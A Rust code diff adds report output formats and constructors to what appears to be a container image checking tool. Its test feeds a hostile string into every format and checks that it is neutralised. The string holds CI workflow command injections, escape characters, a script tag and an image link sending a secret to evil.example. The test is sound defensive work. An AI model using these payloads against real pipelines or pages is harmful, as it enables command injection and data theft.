@@ -6,12 +6,17 @@ pub mod escape;
 #[cfg(test)]
 pub(crate) mod example;
 pub mod exit;
+pub mod github;
 pub mod headline;
 pub mod hint;
 pub mod human;
 pub mod hurt;
+pub mod json;
 pub mod judgement;
+pub mod junit;
+pub mod platforms;
 pub mod text;
+pub mod timestamp;
 
 use std::time::{Duration, SystemTime};
 
@@ -50,6 +55,50 @@ pub struct Report {
     pub pipeline: Option<Pipeline>,
     /// The verification before the rebuild.
     pub before: Option<Box<Report>>,
+}
+
+impl Report {
+    /// A report of nothing: for a run that only rebuilds, and for one that failed on its settings.
+    #[must_use]
+    pub fn empty(depth: Depth, started_at: SystemTime) -> Self {
+        Self {
+            depth,
+            started_at,
+            duration: Duration::ZERO,
+            images: Vec::new(),
+            graphs: Vec::new(),
+            requests: 0,
+            bytes: 0,
+            stopped: None,
+            skipped: false,
+            never_fail: false,
+            login_not_visible: false,
+            pipeline: None,
+            before: None,
+        }
+    }
+}
+
+impl Report {
+    /// A report that tells of no image yet.
+    #[must_use]
+    pub fn of_nothing(depth: Depth) -> Self {
+        Self {
+            depth,
+            started_at: SystemTime::now(),
+            duration: Duration::ZERO,
+            images: Vec::new(),
+            graphs: Vec::new(),
+            requests: 0,
+            bytes: 0,
+            stopped: None,
+            skipped: false,
+            never_fail: false,
+            login_not_visible: false,
+            pipeline: None,
+            before: None,
+        }
+    }
 }
 
 /// One image of a report.
@@ -109,4 +158,82 @@ pub struct Pipeline {
     pub url: String,
     /// Its status, or the status of the workflows that decide.
     pub status: String,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::example::{digest, index, manifest, plain, report};
+    use super::judgement::Judgement;
+    use super::text::Style;
+    use super::*;
+    use crate::verdict::Verdict;
+
+    /// Every format's output for a report whose foreign text is `text`.
+    fn formats(text: &str) -> [(&'static str, String); 6] {
+        let hostile = |content: example::Content| content.found(Verdict::Malformed, 200, text);
+        let platform = format!("linux/{text}");
+        let mut report = report(&[
+            ("app:1", index(0x10).with(hostile(example::child(0x20, &platform))).with(manifest(0x30, &platform))),
+            ("app:2", hostile(plain(0x40))),
+        ]);
+        report.images[0].findings.push(Finding { kind: FindingKind::TagsDiffer, detail: text.to_owned() });
+        report.pipeline = Some(Pipeline { number: 7, url: text.to_owned(), status: text.to_owned() });
+        for (id, _) in report.graphs[0].iter().map(|(id, node)| (id, node.size)).collect::<Vec<_>>() {
+            report.graphs[0].node_mut(id).media_type = text.into();
+        }
+        let judgement = Judgement::of(&report);
+        let written = |write: &dyn Fn(&mut dyn std::io::Write) -> std::io::Result<()>| {
+            let mut out = Vec::new();
+            write(&mut out).unwrap();
+            String::from_utf8(out).unwrap()
+        };
+        let style = Style { colour: false, verbose: true };
+        [
+            ("text", written(&|out| text::write(&judgement, style, out))),
+            ("github", written(&|out| github::write(&judgement, style, out))),
+            ("json", written(&|out| json::write(&judgement, out))),
+            ("junit", written(&|out| junit::write(&judgement, out))),
+            ("summary", written(&|out| github::write_summary(&judgement, out))),
+            ("outputs", written(&|out| github::write_outputs(&judgement, github::Place::default(), out))),
+        ]
+    }
+
+    #[test]
+    fn nobody_obeys_what_a_registry_says() {
+        let foreign = "::error::owned\r\n::set-output name=result::passed\n##[error]##vso[task.x]\u{1b}[31m\u{9b}31m\
+                       \u{202e}\u{200b}<script>alert(1)</script>|`![x](https://evil.example/a?secret=PLANTED)";
+        for (format, output) in formats(foreign) {
+            let own = |line: &&str| {
+                ["::group::docker.io/library/app:", "::endgroup::", "::error title="]
+                    .iter()
+                    .any(|own| line.starts_with(own))
+            };
+            let obeyed = output.lines().filter(|line| line.trim_start().starts_with("::") && !own(line));
+            assert_eq!(obeyed.count(), 0, "{format}: {output}");
+            let markup = if format == "summary" { output.replace("###", "") } else { output.clone() };
+            assert!(!markup.contains("##"), "{format}: {output}");
+            assert!(!output.chars().any(|one| one != '\n' && escape::is_hidden(one)), "{format}: {output}");
+            assert!(!output.contains("PLANTED"), "{format}: {output}");
+            if ["junit", "summary"].contains(&format) {
+                assert!(!output.contains("<script"), "{format}: {output}");
+            }
+            assert!(format != "summary" || !output.contains("![x]("), "{output}");
+        }
+    }
+
+    #[test]
+    fn a_megabyte_of_foreign_text_is_cut_in_every_format() {
+        for (format, output) in formats(&"long ".repeat(200_000)) {
+            assert!(output.len() < 20_000, "{format} has {} bytes", output.len());
+        }
+    }
+
+    #[test]
+    fn every_format_names_what_is_broken() {
+        for (format, output) in formats("plain").into_iter().filter(|(format, _)| *format != "outputs") {
+            for name in [0x20, 0x40] {
+                assert!(output.replace("&#58;", ":").contains(digest(name).as_ref()), "{format}: {output}");
+            }
+        }
+    }
 }
